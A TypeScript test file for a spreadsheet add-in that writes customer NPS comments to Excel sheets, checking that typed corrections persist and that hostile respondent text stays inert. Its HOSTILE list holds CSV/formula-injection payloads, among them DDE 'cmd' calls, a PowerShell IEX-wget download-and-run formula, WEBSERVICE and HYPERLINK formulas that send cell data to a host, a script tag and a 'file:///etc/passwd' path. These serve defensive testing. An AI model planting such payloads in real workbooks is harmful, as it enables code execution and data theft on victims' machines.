/**
 * The sheet of comments in a workbook: what people type beside a comment stays with it through every run and is read
 * back; what customers wrote never becomes anything but text.
 */
import { unzipSync } from "fflate";
import type { CommentRow, CommentsReading } from "../../src/diagnosis/commentsReading";
import { readCorrections } from "../../src/excel/readCorrections";
import { removeOwnSheets } from "../../src/excel/removeSheets";
import { writeSheets } from "../../src/excel/writeSheets";
import { buildSheets } from "../../src/report/sheets";
import type { SheetKind } from "../../src/report/sheetPlan";
import { startHeadless, type Headless } from "../../workbench/src/headless/start";
import { commentsReading, row, theme } from "../report/commentsFixture";
import { AS_OF, diagnosis } from "../report/fixtures";
import { roadmap } from "../report/roadmapFixture";

let excel: Headless;
let undo: () => void;
beforeAll(async () => {
  excel = await startHeadless({ sheets: { Answers: [["Score"], [9], [3]] } });
  undo = excel.asGlobals();
});
afterAll(() => {
  undo();
  excel.dispose();
});

const SHEET = "NPS Comments";
/** As the sheet numbers it. */
const FIRST = 8;
const CAUSE = "K";
const THEME = "L";
const STATE = "J";
const ID = "M";

const plans = (reading: CommentsReading | null, kinds: readonly SheetKind[]) =>
  buildSheets(diagnosis({ rest: { comments: reading } }), roadmap(), {
    kinds,
    writtenOn: AS_OF + 12,
  });
const write = (rows: readonly CommentRow[], kinds: readonly SheetKind[] = ["comments"]) =>
  writeSheets(plans(commentsReading({ rows }), kinds));
const comments = (...ids: readonly string[]): CommentRow[] =>
  ids.map((id) => row(id, `Comment ${id}`));
const at = (column: string, line: number): string => `'${SHEET}'!${column}${line}`;
const lines = (): unknown[][] => excel.cells(`'${SHEET}'!A1:N60`);
/** Row of a comment by its hidden id, as the sheet numbers it. */
function lineOf(id: string): number {
  const found = lines().findIndex((line) => line.includes(id));
  if (found < 0) throw new Error(`no ${id}`);
  return found + 1;
}
const type = (id: string, cause: string, themeName = ""): void => {
  excel.setCell(at(CAUSE, lineOf(id)), cause);
  excel.setCell(at(THEME, lineOf(id)), themeName);
};
const syncsOf = async <T>(work: () => Promise<T>): Promise<[T, number]> => {
  const before = excel.faults.syncs;
  const result = await work();
  return [result, excel.faults.syncs - before];
};

const corrections = async () => (await readCorrections()).corrections;

describe("corrections", () => {
  beforeEach(() => removeOwnSheets(["comments", "themes"]));

  it("none where the sheet is not written, for one round trip", async () => {
    expect(await syncsOf(corrections)).toEqual([[], 1]);
  });

  it("as typed, for two round trips; an empty row has none", async () => {
    await write(comments("a", "b", "c", "d"));
    type("a", "Broken service; Bad timing");
    type("b", "None of these", "parking");
    type("d", "", "late engineer");
    const [read, syncs] = await syncsOf(readCorrections);
    expect(read).toMatchObject({
      corrections: [
        { id: "a", causes: ["service", "timing"], theme: null },
        { id: "b", causes: [], theme: "parking" },
        { id: "d", causes: null, theme: "late engineer" },
      ],
      faults: [],
    });
    expect(syncs).toBe(2);
  });

  it("stay with their comment in whatever order the next runs list it", async () => {
    await write(comments("a", "b", "c"));
    type("a", "Bad timing", "parking");
    await write(comments("new", "c", "b", "a", "newer"));
    expect(excel.cell(at(CAUSE, lineOf("a")))).toBe("Bad timing");
    expect(excel.cell(at(CAUSE, lineOf("new")))).toBe("");
    await write(comments("a", "b"));
    await write(comments("b", "a"));
    expect(excel.cell(at(CAUSE, lineOf("a")))).toBe("Bad timing");
    expect(await corrections()).toEqual([{ id: "a", causes: ["timing"], theme: "parking" }]);
  });

  it("whose comment is gone stay and say so; rows without one go", async () => {
    await write(comments("a", "b", "c"));
    type("b", "Product gaps");
    await write(comments("c"));
    const ids = lines().flatMap((line) => ["a", "b", "c"].filter((id) => line.includes(id)));
    expect(ids.sort()).toEqual(["b", "c"]);
    expect(excel.cell(at(STATE, lineOf("b")))).toBe("No longer found");
    expect(excel.cell(at(STATE, lineOf("c")))).toBe("Read");
    expect(await corrections()).toEqual([{ id: "b", causes: ["product"], theme: null }]);
    // It comes back, as it does where another period is scored.
    await write(comments("a", "b", "c"));
    expect(excel.cell(at(STATE, lineOf("b")))).toBe("Read");
    expect(excel.cell(at(CAUSE, lineOf("b")))).toBe("Product gaps");
  });

  it("stay where no comments are read in the next run", async () => {
    await write(comments("a", "b"));
    type("b", "Product gaps");
    await writeSheets(plans(null, ["comments"]));
    expect(await corrections()).toEqual([{ id: "b", causes: ["product"], theme: null }]);
  });

  it("are taken back by emptying the cell", async () => {
    await write(comments("a"));
    type("a", "Product gaps");
    await write(comments("a"));
    type("a", "");
    expect(await corrections()).toEqual([]);
    await write(comments("a"));
    expect(excel.cell(at(CAUSE, lineOf("a")))).toBe("");
  });

  it("a cause that is none of the list is told with its cell, live too", async () => {
    await write(comments("a", "b"));
    type("b", "Service");
    const { corrections: inForce, faults } = await readCorrections();
    expect(inForce).toEqual([]);
    expect(faults.map(({ address }) => address)).toEqual([at(CAUSE, lineOf("b"))]);
  });

  it("in a row that was added by hand is told, before and after the next run", async () => {
    await write(comments("a", "b"));
    const line = lineOf("a");
    await window(async (context) => {
      context.workbook.tables.getItem("nps_comments").rows.add(0, undefined, true);
      await context.sync();
    });
    excel.setCell(at(CAUSE, line), "Product gaps");
    for (let run = 0; run < 2; run++) {
      const { corrections: inForce, faults } = await readCorrections();
      expect(inForce).toEqual([]);
      expect(faults.map(({ message }) => message)).toEqual([
        "This row was added by hand, and a correction in it belongs to no comment.",
      ]);
      await write(comments("a", "b"));
    }
    expect(lines().flat()).toContain("Product gaps");
  });

  it("are found where the table was renamed, and after its header was", async () => {
    await write(comments("a", "b"));
    type("b", "Product gaps", "bills");
    await window(async (context) => {
      context.workbook.tables.getItem("nps_comments").name = "Mine";
      await context.sync();
    });
    const expected = [{ id: "b", causes: ["product"], theme: "bills" }];
    expect(await corrections()).toEqual(expected);
    excel.setCell(at(CAUSE, FIRST - 1), "My cause");
    expect(await corrections()).toEqual(expected);
    await write(comments("b", "a"));
    expect(excel.cell(at(CAUSE, FIRST - 1))).toBe("My cause");
    expect(await corrections()).toEqual(expected);
  });

  it("a table that is none any more is told", async () => {
    await write(comments("a"));
    type("a", "Product gaps");
    await window(async (context) => {
      context.workbook.tables.getItem("nps_comments").convertToRange();
      await context.sync();
    });
    const { corrections: inForce, faults } = await readCorrections();
    expect(inForce).toEqual([]);
    expect(faults.map(({ message }) => message)).toEqual([
      "The list of comments on this sheet is no table any more.",
    ]);
  });

  it("are chosen from lists: the causes in the rule, the themes from their sheet", async () => {
    await write(comments("a", "b"), ["themes", "comments"]);
    const rules = await window(async (context) => {
      const sheet = context.workbook.worksheets.getItem(SHEET);
      const cells = [CAUSE, THEME].map((column) =>
        sheet.getRange(`${column}${FIRST}:${column}${FIRST + 1}`).dataValidation.load("rule,type")
      );
      await context.sync();
      return cells.map(({ rule, type: kind }) => [kind, rule.list?.source]);
    });
    expect(rules[0]?.[0]).toBe("List");
    expect(rules[0]?.[1]).toMatch(/^Broken service,.*,None of these$/);
    const source = String(rules[1]?.[1]);
    expect(source).toMatch(/^='NPS Themes'!\$B\$\d+:\$B\$\d+$/);
    expect(excel.cells(source.slice(1)).flat()).toEqual(
      commentsReading().themes.map(({ name }) => name)
    );
  });
});

function window<T>(work: (context: Excel.RequestContext) => Promise<T>): Promise<T> {
  return Excel.run(work);
}

const LONG = 32_767;
/** What a respondent may write to be more than read. */
const HOSTILE: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=cmd|'/c powershell IEX(wget x)'!_xlbgnm.A1",
  "+1",
  "+cmd|' /C calc'!A0",
  "-1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00A0=1+1",
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  ";=1+1",
  ",=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '=WEBSERVICE("http://example.com/"&A1)',
  '=IMPORTXML("http://example.com","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "{=1+1}",
  "={1,2,3}",
  "{{summary}}!A1",
  "{{themes}}",
  "{{row}}",
  "{{count}}",
  "$t(sheets.none)",
  "='NPS Summary'!A1",
  "=NPS(A1:A9)",
  "http://example.com/evil",
  "mailto:a@example.com",
  "file:///etc/passwd",
  "\\\\server\\share",
  "<script>alert(1)</script>",
  "<a href='http://example.com'>x</a>",
  "]]><x/>",
  "&lt;b&gt;",
  "TRUE",
  "#N/A",
  "#REF!",
  "1-2",
  "March 5",
  "1e5",
  "00012",
  "12:30",
  "10%",
  "€5",
  "\u202Eevil\u202C",
  "a\u200Bb",
  "a\u0000b",
  "\u0001\u0008\u001F",
  "a\uFFFEb\uFFFF",
  "lone \uD800 surrogate",
  "\uDC00",
  "😀👩‍👩‍👧",
  "Z̷̛a̸l̶g̷o̴",
  "__proto__",
  "constructor",
  "toString",
  "x".repeat(LONG),
  "x".repeat(LONG + 1),
  "=".repeat(LONG + 5),
  `=${"1+".repeat(9_000)}1`,
  "\uD83D\uDE00".repeat(20_000),
  "(a+)+$".repeat(500),
  "line one\nline two\n=3",
];

/** Half of a character beyond the first 65,536. */
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/** What a cell may hold of it: cut where it is too long, and characters that no workbook can hold replaced. */
function stored(text: string, longest: number): string {
  const clean = (one: string): string =>
    one
      .replace(/\r\n?/g, "\n")
      // eslint-disable-next-line no-control-regex -- control characters are what is looked for
      .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, "\uFFFD")
      .replace(LONE_SURROGATE, "\uFFFD");
  if (text.length <= longest) return clean(text);
  return `${clean(text.slice(0, longest - 4).replace(/[\uD800-\uDBFF]$/, ""))} […]`;
}

describe("hostile text", () => {
  const rows = HOSTILE.map((text, index) =>
    row(`h${index}`, text, { words: [text.slice(0, 200)], themes: [text.slice(0, 200)] })
  );
  const themes = HOSTILE.map((text, index) => ({
    ...theme(text.slice(0, 100), 9),
    id: `theme:${index}`,
    phrases: [text.slice(0, 100)],
    concentrated: [
      { column: text.slice(0, 50), value: text.slice(0, 50), share: 0.5, comments: 9 },
    ],
    quotes: [{ row: 1, text, score: 1, day: null }],
  }));
  const reading = commentsReading({
    rows,
    themes: themes.slice(0, 50),
    disagreeing: rows.slice(0, 10),
    alignment: {
      ...commentsReading().alignment,
      list: HOSTILE.map((text) => ({ row: 1, text, score: 1, day: null })),
    },
    causes: commentsReading()
      .causes.slice(0, 1)
      .map((cause) => ({
        ...cause,
        quotes: HOSTILE.slice(0, 20).map((text) => ({ row: 1, text, score: 1, day: null })),
      })),
  });
  const KINDS = ["rootCauses", "themes", "comments"] as const;
  interface Read {
    readonly values: unknown[][];
    readonly formulas: unknown[][];
    readonly types: unknown[][];
  }
  const sheets = new Map<string, Read>();

  async function readAll(): Promise<void> {
    await excel.settle();
    await window(async (context) => {
      const found = ["NPS Root causes", "NPS Themes", SHEET].map((name) => ({
        name,
        range: context.workbook.worksheets
          .getItem(name)
          .getUsedRange()
          .load("values,formulas,valueTypes"),
      }));
      await context.sync();
      for (const { name, range } of found) {
        sheets.set(name, {
          values: range.values as unknown[][],
          formulas: range.formulas as unknown[][],
          types: range.valueTypes as unknown[][],
        });
      }
    });
  }

  beforeAll(async () => {
    await removeOwnSheets(["comments", "themes", "rootCauses"]);
    await writeSheets(plans(reading, KINDS));
    await readAll();
  });

  it("is at least forty strings, each of them once", () => {
    expect(new Set(HOSTILE).size).toBe(HOSTILE.length);
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40);
  });

  it.each(["NPS Root causes", "NPS Themes", SHEET])("%s holds no formula and no error", (name) => {
    const read = sheets.get(name);
    const odd = read?.values.flatMap((line, r) =>
      line.flatMap((value, c) => {
        const kind = read.types[r]?.[c];
        const formula = read.formulas[r]?.[c];
        const isText = kind === "String" && formula === value;
        const isPlain = kind === "Empty" || (kind === "Double" && typeof value === "number");
        return isText || isPlain ? [] : [{ value, formula, kind }];
      })
    );
    expect(odd).toEqual([]);
  });

  it.each(HOSTILE.map((text, index) => [JSON.stringify(text).slice(0, 40), index, text] as const))(
    "%s is the text it is beside its comment's id",
    (_, index, text) => {
      const line = sheets.get(SHEET)?.values.find((cells) => cells.includes(`h${index}`));
      // The used range begins in column B: date, score, comment.
      const [, , shown] = line ?? [];
      expect(shown).toBe(stored(text, 600));
    }
  );

  it("links nowhere but to our own sheets", async () => {
    const parts = unzipSync(await excel.saveXlsx());
    const relations = Object.keys(parts).filter((name) => name.endsWith(".rels"));
    expect(relations.length).toBeGreaterThan(3);
    for (const name of relations) {
      expect(new TextDecoder().decode(parts[name])).not.toContain("External");
    }
    await window(async (context) => {
      const cells = KINDS.flatMap((kind) => {
        const name = { rootCauses: "NPS Root causes", themes: "NPS Themes", comments: SHEET }[kind];
        return [20, 40, 60].map((line) =>
          context.workbook.worksheets.getItem(name).getCell(line, 3).load("hyperlink")
        );
      });
      await context.sync();
      for (const cell of cells) expect(cell.hyperlink ?? null).toBeNull();
    });
  });

  it("stays that through the next run, as text that nobody typed", async () => {
    const { sheets: written } = await writeSheets(plans(reading, KINDS));
    expect(written.map(({ kept }) => kept)).toEqual([0, 0, 0]);
    const before = new Map(sheets);
    await readAll();
    for (const [name, read] of before) expect(sheets.get(name)?.formulas).toEqual(read.formulas);
  });

  it("typed as a correction it is read as text", async () => {
    // What no workbook can hold cannot be typed either.
    const texts = HOSTILE.filter((text) => text.length < 100 && stored(text, 100) === text);
    const ids = texts.map((_, index) => `t${index}`);
    await removeOwnSheets(["comments"]);
    await write(comments(...ids));
    await window(async (context) => {
      const sheet = context.workbook.worksheets.getItem(SHEET);
      const typed = texts.map((text) => [`'${text}`]);
      sheet.getRange(`${THEME}${FIRST}:${THEME}${FIRST + texts.length - 1}`).values = typed;
      await context.sync();
    });
    const read = await corrections();
    for (const { theme: name, causes } of read) {
      expect(causes).toBeNull();
      expect(typeof name).toBe("string");
    }
    expect(read.length).toBeGreaterThan(40);
    await write(comments(...ids));
    await excel.settle();
    expect(await corrections()).toEqual(read);
  });
});

test("ids stand in the hidden last column", async () => {
  await removeOwnSheets(["comments"]);
  await write(comments("a"));
  expect(excel.cell(at(ID, FIRST))).toBe("a");
});
